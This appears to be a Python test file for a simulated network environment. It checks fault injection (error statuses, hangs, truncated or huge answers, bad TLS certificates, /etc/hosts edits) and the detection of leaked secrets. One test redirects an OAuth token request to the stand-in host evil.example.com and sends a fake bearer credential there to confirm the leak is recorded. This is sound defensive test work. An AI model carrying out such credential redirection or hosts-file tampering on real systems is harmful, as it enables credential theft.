"""What the world can do wrong, and what it remembers."""

import base64
import contextlib
import hashlib
import http.client
import os
import socket
import ssl
import time
from pathlib import Path
from typing import Iterator

from .report import claim, refused
from .world import calls, control, order, pull, variable
from .world import http as send

HOST = "oauth2.googleapis.com"
URL = f"https://{HOST}/token"
FORM = {"grant_type": "refresh_token", "client_secret": "a secret/with=signs"}


@contextlib.contextmanager
def connection(timeout: float = 30) -> Iterator[http.client.HTTPSConnection]:
    """A bare connection, on which half an answer can be seen."""
    opened = http.client.HTTPSConnection(HOST, timeout=timeout)
    try:
        yield opened
    finally:
        opened.close()


@claim("a status is answered as often as ordered, in the service's own error shape, with Retry-After")
def _() -> None:
    order("myreg.azurecr.io", "status", status=429, retry_after=7, times=2)
    for _ in range(2):
        answer = send("GET", "https://myreg.azurecr.io/v2/")
        assert answer.status == 429 and answer.headers["Retry-After"] == "7", answer.text
        assert answer.json["errors"][0]["code"] == "TOOMANYREQUESTS"
    assert send("GET", "https://myreg.azurecr.io/v2/").status == 401
    for host, text in (
        ("api.ecr.us-east-1.amazonaws.com", '"__type": "InternalFailureException"'),
        ("sts.amazonaws.com", "<Code>InternalFailure</Code>"),
        ("login.microsoftonline.com", "AADSTS90033"),
        ("iamcredentials.googleapis.com", '"code": 500'),
    ):
        order(host, "status", status=500)
        assert text in send("POST", f"https://{host}/", {}).text
    order(HOST, "status", status=400, body='{"error":"made to measure"}')
    assert send("POST", URL, FORM).json == {"error": "made to measure"}


@claim("a server hangs, drips, stops halfway, answers 10 MiB, a page, or nothing")
def _() -> None:
    order(HOST, "hang", times=1)
    with connection() as opened, refused(socket.timeout):
        opened.request("GET", "/")
        opened.sock.settimeout(2)
        opened.getresponse()
    assert calls(host=HOST)[-1]["fault"] == "hang"
    order(HOST, "slow", times=1)
    with connection() as opened:
        began = time.monotonic()
        opened.request("GET", "/")
        first = opened.sock.recv(1) + opened.sock.recv(1) + opened.sock.recv(1)
        assert first == b"HTT" and time.monotonic() - began > 1.9, first
    order(HOST, "truncate", times=1)
    with connection() as opened, refused(http.client.IncompleteRead):
        opened.request("GET", "/")
        opened.getresponse().read()
    order(HOST, "huge", times=1)
    assert len(send("POST", URL, FORM).text) > 10 * 1024 * 1024
    order(HOST, "content-type", times=1)
    answer = send("POST", URL, FORM)
    assert answer.status == 200 and answer.headers["Content-Type"] == "text/html"
    order(HOST, "close", times=1)
    with connection() as opened, refused(http.client.RemoteDisconnected):
        opened.request("GET", "/")
        opened.getresponse()


@claim("a redirect leads to another host, whose calls are recorded as well")
def _() -> None:
    order(HOST, "redirect", to="evil.example.com", times=1)
    with connection() as opened:
        opened.request("POST", "/token", "")
        answer = opened.getresponse()
        assert (answer.status, answer.headers["Location"]) == (307, "https://evil.example.com/token")
    send("GET", "https://evil.example.com/token", Authorization="Bearer leaked-credential")
    (call,) = calls(service="stranger")
    fingerprint = hashlib.sha256(b"leaked-credential").hexdigest()
    assert {"where": "bearer", "sha256": fingerprint} in call["secrets"]


@claim("a certificate for another name, of a stranger's authority, or expired is refused by clients, and told")
def _() -> None:
    for mode, text in (
        ("wrong-name", "Hostname mismatch"),
        ("untrusted-ca", "unable to get local issuer"),
        ("expired-cert", "certificate has expired"),
    ):
        order(HOST, mode, times=1)
        with connection() as opened, refused(ssl.SSLCertVerificationError, text):
            opened.request("GET", "/")
    assert send("POST", URL, FORM).status == 401, "the right certificate must be back"
    assert [call["host"] for call in calls(service="tls")][:1] == [HOST]


@claim("where a secret was sent is found, also percent-encoded and in base64, and the list never shows it")
def _() -> None:
    secret = FORM["client_secret"]
    send("POST", URL, FORM)
    send("GET", "https://gcr.io/v2/", Authorization="Basic " + base64.b64encode(f"user:{secret}".encode()).decode())
    send("GET", f"https://second.example.com/?q={secret.replace(' ', '%20')}")
    send("GET", "https://myreg.azurecr.io/v2/")
    assert control("/seen", {"text": secret}) == ["gcr.io", HOST, "second.example.com"]
    assert secret not in str(calls())


@claim("a name taken out of /etc/hosts does not resolve, and one pointed elsewhere is refused, both at once")
def _() -> None:
    hosts = Path(variable("HOSTS"))
    before = hosts.read_text()
    try:
        for changed, kind in (
            (before.replace(f"127.0.0.1 {HOST}\n", ""), socket.gaierror),
            (before.replace(f"127.0.0.1 {HOST}\n", f"127.0.0.9 {HOST}\n"), ConnectionRefusedError),
        ):
            hosts.write_text(changed)
            began = time.monotonic()
            with refused(kind):
                socket.create_connection((HOST, 443), timeout=5)
            assert time.monotonic() - began < 4
    finally:
        hosts.write_text(before)


@claim(
    "programs start with an empty environment, trust the world's CA from the system's files, and see no other network"
)
def _() -> None:
    ours = {
        "PYTHONPATH",
        "PYTHONDONTWRITEBYTECODE",
        "STRICT",
        "REQUESTS_CA_BUNDLE",
        "AWS_CA_BUNDLE",
        "PWD",
        "OLDPWD",
        "_",
        "LC_CTYPE",
    }  # what the way from `world` to here adds
    others = {name for name in os.environ if not name.startswith("WORLD_")} - ours - {"PATH", "HOME"}
    assert not others, others
    with refused(OSError, "unreachable"):
        socket.create_connection(("192.0.2.1", 443), timeout=2)
    answer = pull("gcr.io", "user", "wrong")  # skopeo reads the files as all Go programs do
    assert "unauthorized" in answer.lower() and "x509" not in answer, answer
